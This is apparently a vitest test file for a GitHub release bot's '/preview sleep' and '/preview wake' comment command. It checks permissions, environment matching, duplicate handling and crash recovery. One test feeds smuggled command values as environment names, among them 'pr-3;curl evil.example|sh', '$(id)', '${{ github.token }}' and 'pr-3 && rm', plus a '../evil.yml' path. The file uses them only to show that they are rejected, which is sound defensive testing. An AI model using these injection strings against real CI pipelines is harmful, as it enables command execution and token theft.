/** From a comment on the release pull request to the one run that puts a preview to sleep or wakes it, over the whole loop. */
import { describe, expect, test } from 'vitest'
import type { DeploymentFacts, Effect, LedgerEvent, PullFacts } from '../../../app/release/ports.ts'
import { reconcile, type Look } from '../../../app/release/reconcile.ts'
import { dataOf } from '../../../app/release/state.ts'
import { commentOf, configText, HEAD, KEY, MERGED, OTHER_HEAD, pullOf, REPOSITORY } from '../../support/release.ts'
import { runOf, worldOf, type World } from '../../support/release-ports.ts'

const FULL: Look = { repository: REPOSITORY, pull: 3, mode: 'full' }
const SINCE = '2026-11-22T10:00:00Z'
const AWAKE = { state: 'success', description: '', at: SINCE }
const ASLEEP = { state: 'inactive', description: 'asleep: by preview-sleep.yml', at: SINCE }

type Dispatch = Extract<Effect, { kind: 'workflow.dispatch' }>

function previewOf(over: Partial<DeploymentFacts> = {}): DeploymentFacts {
  return { id: 70, sha: OTHER_HEAD, ref: 'release/v2.0.0', production: false, status: AWAKE, ...over }
}

/** @param policy what `gates.preview_budget` says beside its prices */
function worldWith(deployments: Readonly<Record<string, DeploymentFacts | Error>>, policy = ', sleep: preview-sleep.yml'): World {
  const config = configText().replace('hour: 0.1 }]', `hour: 0.1 }]${policy}`)
  const world = worldOf({ config })
  world.deployments = new Map(Object.entries(deployments))
  return world
}

async function opened(...of: Parameters<typeof worldWith>): Promise<World> {
  const world = worldWith(...of)
  await reconcile(world.context, FULL)
  return world
}

const runsOf = (world: World): Dispatch[] =>
  world.done.filter((one): one is Dispatch => one.kind === 'workflow.dispatch' && one.key.includes('/preview/'))

async function answersOf(world: World): Promise<{ readonly done: boolean; readonly answer: string }[]> {
  const record = await world.store.release(KEY)
  return record === null ? [] : dataOf(record).answers.map(({ done, answer }) => ({ done, answer }))
}

async function say(world: World, body: string, ...by: [login?: string, id?: number, over?: object]): Promise<{ done: boolean; answer: string }> {
  world.comments.push(commentOf(body, ...by))
  await reconcile(world.context, FULL)
  const last = (await answersOf(world)).at(-1)
  if (last === undefined) throw new Error(`${body} has no answer`)
  return last
}

describe('/preview', () => {
  test.each([
    ['sleep', AWAKE, 'puts it to sleep'],
    ['wake', ASLEEP, 'wakes it'],
  ])('%s starts the named workflow on the default branch, and says so', async (action, status, does) => {
    const world = await opened({ 'pr-3': previewOf({ status }) })
    const { done, answer } = await say(world, `/preview ${action} pr-3`)
    expect([done, answer]).toEqual([
      true,
      `\`preview-sleep.yml\` is started for \`pr-3\` and ${does}; its deployment on GitHub says when that is done.`,
    ])
    const key = `${KEY}/preview/${world.comments[0]?.id}`
    expect(runsOf(world)).toEqual([
      {
        kind: 'workflow.dispatch',
        key,
        workflow: 'preview-sleep.yml',
        ref: 'main',
        inputs: { action, environment: 'pr-3', deployment: '70', sha: OTHER_HEAD, key },
      },
    ])
    const ledger = (await world.store.ledger(KEY)) as readonly LedgerEvent[]
    expect(ledger.find(({ type }) => type === 'policy.decision')?.data).toMatchObject({ input: { command: { name: 'preview', target: 'pr-3' } } })
  })

  test('asks no second person, no key and no approver, and a look later nothing more is started', async () => {
    const world = await opened({ 'pr-3': previewOf() })
    world.roles.set('writer', 'write')
    expect(await say(world, '/preview sleep pr-3', 'writer', 40)).toMatchObject({ done: true })
    await reconcile(world.context, FULL)
    expect(runsOf(world)).toHaveLength(1)
  })

  test('a preview of the head is of the pull request, whatever branch it names', async () => {
    const world = await opened({ 'pr-3': previewOf({ ref: HEAD, sha: HEAD }) })
    expect(await say(world, '/preview sleep pr-3')).toMatchObject({ done: true })
  })
})

describe('nothing is started', () => {
  test.each<[string, string, Parameters<typeof commentOf>, string]>([
    ['by who may only read', 'stranger', ['', 'stranger', 30], 'command.no-write'],
    ['by who is not known to write', 'unknown', ['', 'unknown', 31], 'command.facts-unavailable'],
    ['by an edited comment', 'approver', ['', 'approver', 21, { edited: true }], 'command.edited'],
    ['by a bot', 'approver', ['', 'approver', 21, { author: { login: 'approver', id: 21, type: 'Bot' } }], 'command.not-a-person'],
    ['by an app in a person’s name', 'approver', ['', 'approver', 21, { viaApp: true }], 'command.via-app'],
  ])('%s, and GitHub is not asked about the environment', async (_what, login, [, ...by], code) => {
    const world = await opened({ 'pr-3': previewOf() })
    if (login === 'unknown') world.roles.set(login, 'unknown')
    const { done, answer } = await say(world, '/preview sleep pr-3', ...by)
    expect([done, answer.includes(code)]).toEqual([false, true])
    expect(runsOf(world)).toEqual([])
    expect(world.asked.filter((what) => what.startsWith('deployment '))).toEqual([])
  })

  test.each([
    ['prod', 'is an environment that releases go to'],
    ['PROD', 'is an environment that releases go to'],
    ['stage', '`stage` is no preview: the config names `p*`, `P*`, `*-3`'],
    ['preview/pr-9', 'is no preview'],
  ])('for %s, which is not asked about either', async (environment, why) => {
    const world = await opened({ [environment]: previewOf() }, ', sleep: preview-sleep.yml, environments: ["p*", "P*", "*-3"]')
    const { done, answer } = await say(world, `/preview sleep ${environment}`)
    expect([done, answer]).toEqual([false, expect.stringContaining(why)])
    expect(runsOf(world)).toEqual([])
    expect(world.asked.filter((what) => what.startsWith('deployment '))).toEqual([])
  })

  test.each<[string, DeploymentFacts | Error | undefined, string]>([
    ['that was never deployed', undefined, 'nothing was ever deployed there'],
    ['of another pull request', previewOf({ ref: 'feature/cart' }), '`pr-3` is a preview of `feature/cart`, not of this pull request'],
    ['that is called production', previewOf({ production: true }), 'says that it is production'],
    ['that GitHub does not answer for', new Error('502'), 'GitHub could not be asked'],
    ['that was taken down', previewOf({ status: { ...AWAKE, state: 'inactive', description: 'too dear' } }), 'was taken down. Deploy it again.'],
    ['that failed', previewOf({ status: { ...AWAKE, state: 'failure' } }), 'failed. Deploy it again.'],
    ['that broke', previewOf({ status: { ...AWAKE, state: 'error' } }), 'failed. Deploy it again.'],
    ['that is on its way', previewOf({ status: { ...AWAKE, state: 'in_progress' } }), 'is being deployed'],
    ['without a status', previewOf({ status: null }), 'is being deployed'],
    ['that sleeps', previewOf({ status: ASLEEP }), `is asleep already, since ${SINCE}`],
  ])('for a preview %s', async (_what, preview, why) => {
    const world = await opened(preview === undefined ? {} : { 'pr-3': preview })
    const { done, answer } = await say(world, '/preview sleep pr-3')
    expect([done, answer]).toEqual([false, expect.stringContaining(why)])
    expect(runsOf(world)).toEqual([])
  })

  test('to wake what is awake', async () => {
    const world = await opened({ 'pr-3': previewOf() })
    expect(await say(world, '/preview wake pr-3')).toEqual({ done: false, answer: 'Nothing was done: `pr-3` is awake already.' })
  })

  test('when the config names no workflow; the answer is the line to add', async () => {
    const world = await opened({ 'pr-3': previewOf() }, '')
    const { done, answer } = await say(world, '/preview sleep pr-3')
    expect([done, answer]).toEqual([false, expect.stringContaining('Add `sleep: preview-sleep.yml` under `gates.preview_budget`')])
    expect(runsOf(world)).toEqual([])
  })

  test('when its part of the config cannot be used', async () => {
    const world = await opened({ 'pr-3': previewOf() }, ', sleep: "../evil.yml"')
    expect(await say(world, '/preview sleep pr-3')).toMatchObject({ done: false, answer: expect.stringContaining('config check') })
  })

  test.each<[string, Partial<PullFacts>]>([
    ['closed', { state: 'closed' }],
    ['merged', MERGED],
  ])('once the pull request is %s', async (_what, over) => {
    const world = await opened({ 'pr-3': previewOf() })
    world.pull = pullOf(over)
    expect(await say(world, '/preview wake pr-3')).toMatchObject({ done: false, answer: expect.stringContaining('the pull request is closed') })
    expect(runsOf(world)).toEqual([])
  })

  test.each(['pr-🚀', `pr-${'x'.repeat(253)}`, 'pr-3;curl evil.example|sh', '$(id)', '${{ github.token }}', 'pr-3 && rm', '<b>pr-3</b>'])(
    'for a name that no command holds: %s',
    async (name) => {
      const world = await opened({ [name]: previewOf() }, ', sleep: preview-sleep.yml, environments: ["*"]')
      expect(await say(world, `/preview sleep ${name}`)).toMatchObject({ done: false, answer: expect.stringContaining('/preview sleep') })
      expect(runsOf(world)).toEqual([])
    },
  )

  test('by what follows a name in the next line', async () => {
    const world = await opened({ 'pr-3': previewOf(), 'pr-3\nprod': previewOf({ id: 71 }) })
    await say(world, '/preview sleep pr-3\nprod')
    expect(runsOf(world).map(({ inputs }) => [inputs['environment'], inputs['deployment']])).toEqual([['pr-3', '70']])
  })
})

describe('said twice', () => {
  test('at once, it is started once; the second is told', async () => {
    const world = await opened({ 'pr-3': previewOf() })
    world.comments.push(commentOf('/preview sleep pr-3'))
    expect(await say(world, '/preview sleep pr-3', 'second', 22)).toEqual({
      done: false,
      answer: 'Nothing was done: `pr-3` is being put to sleep already.',
    })
    expect(runsOf(world)).toHaveLength(1)
  })

  test('while its run is under way, the same is refused and the other is started', async () => {
    const world = await opened({ 'pr-3': previewOf() })
    world.perform = () => ({ id: 9001 })
    await say(world, '/preview sleep pr-3')
    world.runs = [runOf(9001, { path: '.github/workflows/preview-sleep.yml', status: 'in_progress', conclusion: null })]
    expect(await say(world, '/preview sleep pr-3')).toMatchObject({ done: false, answer: expect.stringContaining('being put to sleep already') })
    expect(await say(world, '/preview wake pr-3')).toMatchObject({ done: true })
    expect(runsOf(world).map(({ inputs }) => inputs['action'])).toEqual(['sleep', 'wake'])
  })

  test('after its run is over without effect, it is started again', async () => {
    const world = await opened({ 'pr-3': previewOf() })
    world.perform = () => ({ id: 9001 })
    await say(world, '/preview sleep pr-3')
    world.runs = [runOf(9001, { path: '.github/workflows/preview-sleep.yml', conclusion: 'failure' })]
    expect(await say(world, '/preview sleep pr-3')).toMatchObject({ done: true })
    expect(runsOf(world)).toHaveLength(2)
  })
})

class Killed extends Error {}

function die(): never {
  throw new Killed('killed')
}

/** Until the dispatch, which it does or does not send before it dies. */
async function dying(world: World, sends: boolean): Promise<void> {
  world.comments.push(commentOf('/preview sleep pr-3'))
  const { effects, store } = world.ports
  const ports: World['ports'] = {
    ...world.ports,
    effects: {
      ...effects,
      perform: async (repository, effect, leave) => {
        if (effect.kind !== 'workflow.dispatch') return await effects.perform(repository, effect, leave)
        if (sends) await effects.perform(repository, effect, leave)
        return die()
      },
    },
    // What is dead writes nothing down.
    store: new Proxy(store, { get: (of, name) => (name === 'settle' ? settling : Reflect.get(of, name)?.bind?.(of)) }),
  }
  const settling: typeof store.settle = async (key, ...rest) => (key.includes('/preview/') ? die() : await store.settle(key, ...rest))
  await expect(reconcile({ ...world.context, ports }, FULL)).rejects.toThrow('killed')
  world.now += 20_000
}

describe('a process that dies', () => {
  test('between record and dispatch is followed by one that sends it, once', async () => {
    const world = await opened({ 'pr-3': previewOf() })
    await dying(world, false)
    expect(runsOf(world)).toEqual([])
    await reconcile(world.context, FULL)
    await reconcile(world.context, FULL)
    expect(runsOf(world)).toHaveLength(1)
  })

  test('between dispatch and its outcome is followed by one that finds the run, and sends nothing', async () => {
    const world = await opened({ 'pr-3': previewOf() })
    await dying(world, true)
    world.found = (effect) => (effect.kind === 'workflow.dispatch' ? { id: 9001 } : null)
    await reconcile(world.context, FULL)
    await reconcile(world.context, FULL)
    expect(runsOf(world)).toHaveLength(1)
    expect((await world.store.outbox(KEY)).find(({ key }) => key.includes('/preview/'))?.outcome).toEqual({ id: 9001 })
  })
})

test('a run of it brings no evidence: its artifacts are not looked at', async () => {
  const world = await opened({ 'pr-3': previewOf() })
  world.perform = () => ({ id: 9001 })
  await say(world, '/preview sleep pr-3')
  world.runs = [runOf(9001, { path: '.github/workflows/preview-sleep.yml' })]
  world.asked.length = 0
  await reconcile(world.context, FULL)
  expect(world.asked).not.toContain('artifacts')
})
